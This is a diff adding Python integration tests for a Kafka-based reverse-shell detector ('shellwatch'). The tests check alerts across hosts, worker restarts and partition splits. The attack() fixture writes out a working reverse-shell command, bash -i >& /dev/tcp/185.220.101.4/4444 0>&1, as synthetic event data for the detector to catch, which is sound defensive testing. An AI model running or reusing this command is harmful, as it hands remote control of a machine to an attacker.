@@ -1,0 +1,273 @@
+"""The worker on the real broker: exact alerts across hosts and topics, restarts, two workers."""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+import time
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+from confluent_kafka import Consumer, KafkaException, TopicPartition
+from confluent_kafka.admin import AdminClient
+
+from shellwatch.kafka_io import AlertReader, produce_documents
+from shellwatch.localkafka import create_topic
+from shellwatch.pipeline import Pipeline, PipelineConfig
+from shellwatch.rules.loader import load_reverse_shell_rule
+from shellwatch.samples.ecs_factory import connection, execution
+from shellwatch.timestamps import parse_timestamp_ms
+from shellwatch.worker_process import WorkerProcess
+
+RULE = load_reverse_shell_rule()
+PARTITIONS = 3
+LIVE = (time.time_ns() // 1_000_000) - 60_000
+FUTURE = 4_070_908_800_000  # 2099-01-01
+Y2022 = 1_656_000_000_000  # 2022-06-23
+
+
+class Deployment:
+    """One worker deployment: its own topics and app id on the session's broker."""
+
+    def __init__(self, bootstrap: str, workdir: Path) -> None:
+        self.bootstrap = bootstrap
+        self.workdir = workdir
+        self.app_id = f"it-{uuid.uuid4().hex[:10]}"
+        self.network, self.process = f"{self.app_id}-network", f"{self.app_id}-process"
+        self.alerts = f"{self.app_id}-alerts"
+        for topic in (self.network, self.process):
+            create_topic(bootstrap, topic, PARTITIONS)
+        self.workers: list[WorkerProcess] = []
+
+    def env(self) -> dict[str, str]:
+        return {
+            **os.environ,
+            "KAFKA_BOOTSTRAP_SERVERS": self.bootstrap,
+            "SHELLWATCH_APP_ID": self.app_id,
+            "SHELLWATCH_NETWORK_TOPIC": self.network,
+            "SHELLWATCH_PROCESS_TOPIC": self.process,
+            "SHELLWATCH_ALERTS_TOPIC": self.alerts,
+            "SHELLWATCH_DEAD_LETTER_TOPIC": f"{self.app_id}-dead-letters",
+            "SHELLWATCH_WEB_ENABLED": "false",
+            "SHELLWATCH_DATA_DIR": str(self.workdir / "data"),
+        }
+
+    def start_worker(self) -> WorkerProcess:
+        worker = WorkerProcess(self.env(), self.workdir / f"worker-{len(self.workers)}.log").start()
+        self.workers.append(worker)
+        return worker
+
+    def produce(self, docs: list[dict[str, Any]]) -> None:
+        produce_documents(self.bootstrap, docs, network_topic=self.network, process_topic=self.process)
+
+    def alerts_for(self, expected: int, timeout_s: float = 60.0, settle_s: float = 4.0) -> list[dict[str, Any]]:
+        reader = AlertReader(self.bootstrap, self.alerts)
+        try:
+            return reader.read(until=expected, timeout_s=timeout_s, settle_s=settle_s)
+        finally:
+            reader.close()
+
+    def stop(self) -> None:
+        for worker in self.workers:
+            worker.stop()
+
+
+@pytest.fixture
+def deployment(kafka_bootstrap: str, tmp_path: Path) -> Iterator[Deployment]:
+    deployed = Deployment(kafka_bootstrap, tmp_path)
+    yield deployed
+    deployed.stop()
+
+
+def offline_alert_ids(docs: list[dict[str, Any]]) -> set[str]:
+    """What ``shellwatch detect`` raises for the same documents."""
+    pipeline = Pipeline(RULE, PipelineConfig())
+    alerts = [a for doc in docs for a in pipeline.process(orjson.dumps(doc), 0).alerts] + pipeline.flush(0)
+    return {a["event"]["id"] for a in alerts}
+
+
+def attack(host: str, conn_ms: int, exec_ms: int, *, ip: str = "185.220.101.4", tag: str = "") -> list[dict[str, Any]]:
+    return [
+        connection(ts_ms=conn_ms, host_id=host, pid=4242, dest_ip=ip, event_id=f"{host}{tag}-conn"),
+        execution(
+            ts_ms=exec_ms,
+            host_id=host,
+            pid=31337,
+            parent_pid=4242,
+            event_id=f"{host}{tag}-shell",
+            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
+        ),
+    ]
+
+
+def noise(host: str, start_ms: int, count: int) -> list[dict[str, Any]]:
+    return [
+        connection(
+            ts_ms=start_ms + i * 37,
+            host_id=host,
+            pid=100 + i,
+            dest_ip="93.184.216.34",
+            event_id=f"{host}-noise-{i}",
+            executable="/usr/sbin/nginx",
+        )
+        for i in range(count)
+    ]
+
+
+def test_exact_alerts_across_hosts_and_topics(deployment: Deployment) -> None:
+    base = LIVE
+    hit_9 = attack("host-x9", base + 900, base + 2100)  # connection at x.9 s, exec at x+1.1 s
+    exec_first = attack("host-exec-first", base + 1000, base + 1500)
+    exec_first.reverse()  # the exec is produced (and arrives) before its connection
+    private = attack("host-private", base, base + 500, ip="10.9.8.7")
+    too_late = attack("host-late", base, base + 5001)
+    future = attack("host-2099", FUTURE, FUTURE + 800)  # a clock far in the future still alerts
+    docs = [*noise("host-noise", base, 200), *hit_9, *exec_first, *private, *too_late, *future, *noise("n2", base, 50)]
+    expected = offline_alert_ids(docs)
+    assert len(expected) == 3
+    deployment.start_worker()
+    produced_at = time.time()
+    deployment.produce(docs)
+    alerts = deployment.alerts_for(len(expected))
+    assert {a["event"]["id"] for a in alerts} == expected
+    hosts = {a["host"]["id"] for a in alerts}
+    assert hosts == {"host-x9", "host-exec-first", "host-2099"}
+    for alert in alerts:
+        detected = alert["@timestamp"]
+        assert alert["rule"]["id"] == "potential-reverse-shell-via-java"
+        assert [e["event"]["id"] for e in alert["detection"]["events"]] == [
+            f"{alert['host']['id']}-conn",
+            f"{alert['host']['id']}-shell",
+        ]
+        assert detected.endswith("Z")
+    future_alert = next(a for a in alerts if a["host"]["id"] == "host-2099")
+    assert future_alert["detection"]["latency_ms"] < 0
+    print(f"\nworker alert latency after produce: {max(_detected_s(a) for a in alerts) - produced_at:.2f}s")
+
+
+def _detected_s(alert: dict[str, Any]) -> float:
+    return parse_timestamp_ms(alert["@timestamp"]) / 1000
+
+
+def test_a_topic_of_2022_data_is_detected_like_live_data(deployment: Deployment) -> None:
+    docs = [*noise("old-noise", Y2022, 100), *attack("old-host", Y2022 + 10_000, Y2022 + 14_999)]
+    expected = offline_alert_ids(docs)
+    assert len(expected) == 1
+    deployment.start_worker()
+    deployment.produce(docs)
+    assert {a["event"]["id"] for a in deployment.alerts_for(1)} == expected
+
+
+def committed(bootstrap: str, group: str, topic: str) -> int:
+    consumer = Consumer({"bootstrap.servers": bootstrap, "group.id": group, "enable.auto.commit": False})
+    try:
+        offsets = consumer.committed([TopicPartition(topic, p) for p in range(PARTITIONS)], timeout=10)
+        return sum(max(tp.offset, 0) for tp in offsets)
+    finally:
+        consumer.close()
+
+
+def wait_for(predicate: Any, timeout_s: float, what: str) -> None:
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        if predicate():
+            return
+        time.sleep(0.3)
+    raise AssertionError(f"timed out waiting for {what}")
+
+
+def test_restart_between_connection_and_exec_recovers_state(deployment: Deployment) -> None:
+    conn, shell = attack("host-restart", LIVE, LIVE + 3000)
+    first = deployment.start_worker()
+    deployment.produce([conn])
+    relevant = f"{deployment.app_id}-relevant"
+    # Both stages committed past the connection: a restarted worker will not read it again.
+    wait_for(
+        lambda: committed(deployment.bootstrap, f"{deployment.app_id}-prefilter", deployment.network) == 1,
+        60,
+        "the pre-filter stage to commit the connection",
+    )
+    wait_for(
+        lambda: committed(deployment.bootstrap, deployment.app_id, relevant) >= 1,
+        60,
+        "the correlation agent to commit the forwarded connection",
+    )
+    assert first.stop() == 0
+    deployment.produce([shell])
+    deployment.start_worker()
+    (alert,) = deployment.alerts_for(1)
+    assert [e["event"]["id"] for e in alert["detection"]["events"]] == ["host-restart-conn", "host-restart-shell"]
+    assert alert["event"]["id"] in offline_alert_ids([conn, shell])
+
+
+def test_two_workers_split_the_partitions_and_raise_every_alert(deployment: Deployment) -> None:
+    hosts = [f"host-{i:02d}" for i in range(12)]
+    docs = [d for i, h in enumerate(hosts) for d in attack(h, LIVE + i * 10, LIVE + i * 10 + 700)]
+    docs += noise("quiet", LIVE, 300)
+    expected = offline_alert_ids(docs)
+    assert len(expected) == 12
+    deployment.start_worker()
+    deployment.start_worker()
+    admin = AdminClient({"bootstrap.servers": deployment.bootstrap})
+
+    def two_members() -> bool:
+        future: Any = admin.describe_consumer_groups([deployment.app_id])[deployment.app_id]
+        try:
+            return len(future.result(timeout=10).members) == 2
+        except KafkaException:  # the group has no coordinator yet
+            return False
+
+    wait_for(two_members, 90, "two workers to join the consumer group")
+    deployment.produce(docs)
+    alerts = deployment.alerts_for(len(expected), timeout_s=90)
+    assert {a["event"]["id"] for a in alerts} == expected
+    # Faust logs each assignment as a table row: "| <relevant topic> | {0-1} |". The latest rows of the
+    # two workers must split the relevant topic's partitions between them.
+    relevant = f"{deployment.app_id}-relevant"
+    shares = [last_assignment(worker.log_path.read_text(errors="replace"), relevant) for worker in deployment.workers]
+    assert all(shares) and not shares[0] & shares[1] and shares[0] | shares[1] == set(range(PARTITIONS)), shares
+
+
+def last_assignment(log: str, topic: str) -> set[int]:
+    rows = re.findall(rf"\| {re.escape(topic)}\s*\| \{{([0-9,\- ]+)\}}", log)
+    if not rows:
+        return set()
+    partitions: set[int] = set()
+    for part in rows[-1].split(","):
+        low, _, high = part.strip().partition("-")
+        partitions.update(range(int(low), int(high or low) + 1))
+    return partitions
+
+
+def test_refuses_to_start_when_inputs_are_not_copartitioned(kafka_bootstrap: str, tmp_path: Path) -> None:
+    deployment = Deployment(kafka_bootstrap, tmp_path)
+    mismatched = f"{deployment.app_id}-process-5"
+    create_topic(kafka_bootstrap, mismatched, 5)
+    env = {**deployment.env(), "SHELLWATCH_PROCESS_TOPIC": mismatched}
+    result = subprocess.run(
+        [sys.executable, "-m", "shellwatch", "worker"], env=env, capture_output=True, timeout=120, check=False
+    )
+    assert result.returncode == 2
+    message = result.stderr.decode()
+    assert "refusing to start" in message and "not co-partitioned" in message
+    assert f"{deployment.network}=3" in message and f"{mismatched}=5" in message
+
+
+def test_one_mixed_topic_routed_by_event_category(kafka_bootstrap: str, tmp_path: Path) -> None:
+    deployment = Deployment(kafka_bootstrap, tmp_path)
+    mixed = f"{deployment.app_id}-mixed"
+    create_topic(kafka_bootstrap, mixed, PARTITIONS)
+    docs = [*noise("mixed-noise", LIVE, 50), *attack("mixed-host", LIVE + 100, LIVE + 600)]
+    worker = WorkerProcess({**deployment.env(), "SHELLWATCH_MIXED_TOPIC": mixed}, tmp_path / "mixed.log").start()
+    try:
+        produce_documents(kafka_bootstrap, docs, network_topic=mixed, process_topic=mixed)
+        alerts = deployment.alerts_for(1)
+    finally:
+        worker.stop()
+    assert {a["event"]["id"] for a in alerts} == offline_alert_ids(docs)
